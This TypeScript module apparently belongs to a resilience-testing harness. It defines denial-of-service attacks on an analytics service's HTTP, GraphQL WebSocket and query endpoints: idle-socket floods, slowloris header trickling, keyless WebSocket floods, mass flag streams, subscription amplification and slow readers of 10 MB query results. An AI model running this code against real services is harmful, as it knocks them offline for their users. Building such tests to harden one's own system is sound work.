import { WebSocket } from "ws"
import type { Attack } from "../attack.types.js"
import type { Attacker } from "../attacker.js"

const IDLE_SOCKETS = 5_000
const SLOW_HEADS = 1_000
const WEB_SOCKETS = 2_000
const STREAMS = 1_000
const SUBSCRIPTIONS = 1_000
const SUBSCRIPTIONS_PER_SOCKET = 100
const SLOW_READERS = 200
const TRICKLE_EVERY_MS = 2_000

const PROTOCOL = "graphql-transport-ws"
const LIVE_EVENTS = `subscription ($projectId: ID!) { liveEvents(projectId: $projectId) { uuid event properties } }`

/** A WebSocket of the GraphQL path; `onOpen` sends what it has to say. */
function openWebSocket(attacker: Attacker, signal: AbortSignal, onOpen: (socket: WebSocket) => void): void {
  const { hostname, port } = attacker
  const socket = new WebSocket(`ws://${hostname}:${port}/graphql`, PROTOCOL, { localAddress: attacker.address })
  socket.on("open", () => {
    attacker.count("connected")
    onOpen(socket)
  })
  socket.on("message", () => attacker.count("messages"))
  socket.on("error", (failure: NodeJS.ErrnoException) => attacker.count(failure.code ?? failure.message))
  socket.on("close", (code) => {
    if (!signal.aborted) attacker.count(`closed with ${code}`)
  })
  signal.addEventListener("abort", () => socket.terminate(), { once: true })
}

function subscribe(attacker: Attacker, socket: WebSocket): void {
  const send = (message: object): void => socket.send(JSON.stringify(message))
  send({ type: "connection_init", payload: attacker.bearer })
  const payload = { query: LIVE_EVENTS, variables: { projectId: attacker.tenant.projectId } }
  socket.once("message", () => {
    for (let id = 0; id < SUBSCRIPTIONS_PER_SOCKET; id++) send({ id: String(id), type: "subscribe", payload })
  })
}

/** Events of 2 kB, each of which a thousand subscriptions get. */
const eventsToTell = (attacker: Attacker): string =>
  JSON.stringify({
    api_key: attacker.tenant.projectKey,
    batch: Array.from({ length: 20 }, () => ({
      event: "told",
      distinct_id: "a",
      properties: { text: "x".repeat(2_000) },
    })),
  })

/** Connections that are held. */
export const CONNECTION_ATTACKS: readonly Attack[] = [
  {
    name: "idle-sockets",
    needs: "nothing",
    what: "5,000 connections are opened and say nothing.",
    run: (attacker, signal) => attacker.hold(IDLE_SOCKETS, signal, () => attacker.open("", signal).resume()),
  },
  {
    name: "slow-heads",
    needs: "nothing",
    what: "1,000 connections send the head of a request, a header every two seconds (slowloris).",
    run: (attacker, signal) =>
      attacker.hold(SLOW_HEADS, signal, () => {
        const socket = attacker.open("GET /_livez HTTP/1.1\r\nHost: a\r\n", signal).resume()
        const trickle = setInterval(() => socket.write("X-More: 1\r\n"), TRICKLE_EVERY_MS)
        socket.once("close", () => clearInterval(trickle))
      }),
  },
  {
    name: "keyless-websockets",
    needs: "nothing",
    what: "2,000 WebSockets are opened, and initialised without a key.",
    run: (attacker, signal) =>
      attacker.hold(WEB_SOCKETS, signal, () =>
        openWebSocket(attacker, signal, (socket) => socket.send('{"type":"connection_init"}')),
      ),
  },
  {
    name: "event-streams",
    needs: "project key",
    what: "1,000 streams of flag changes are opened with one project key.",
    run: (attacker, signal) =>
      attacker.hold(STREAMS, signal, () =>
        attacker.send({ path: `/flags/stream?token=${attacker.tenant.projectKey}` }, signal),
      ),
  },
  {
    name: "subscriptions",
    needs: "personal key",
    what: "1,000 subscriptions of one key follow live events while 200 events of 2 kB a second are captured.",
    run: async (attacker, signal) => {
      const body = eventsToTell(attacker)
      const telling = setInterval(() => void attacker.send({ path: "/batch/", body }, signal), 100)
      await attacker.hold(SUBSCRIPTIONS / SUBSCRIPTIONS_PER_SOCKET, signal, () =>
        openWebSocket(attacker, signal, (socket) => subscribe(attacker, socket)),
      )
      clearInterval(telling)
    },
  },
  {
    name: "slow-readers",
    needs: "personal key",
    what: "200 connections ask for answers of 10 MB and do not read them.",
    run: (attacker, signal) => {
      const sql = "SELECT repeat(toString(number % 10), 5000) FROM numbers(2000) LIMIT 2000"
      const body = JSON.stringify({ query: { kind: "HogQLQuery", query: sql }, refresh: "blocking" })
      const head = `POST ${attacker.path("query/")} HTTP/1.1\r\nHost: a\r\nAuthorization: ${attacker.bearer.Authorization}\r\nContent-Type: application/json\r\nContent-Length: ${body.length}\r\n\r\n${body}`
      return attacker.hold(SLOW_READERS, signal, () => attacker.open(head, signal).pause())
    },
  },
]
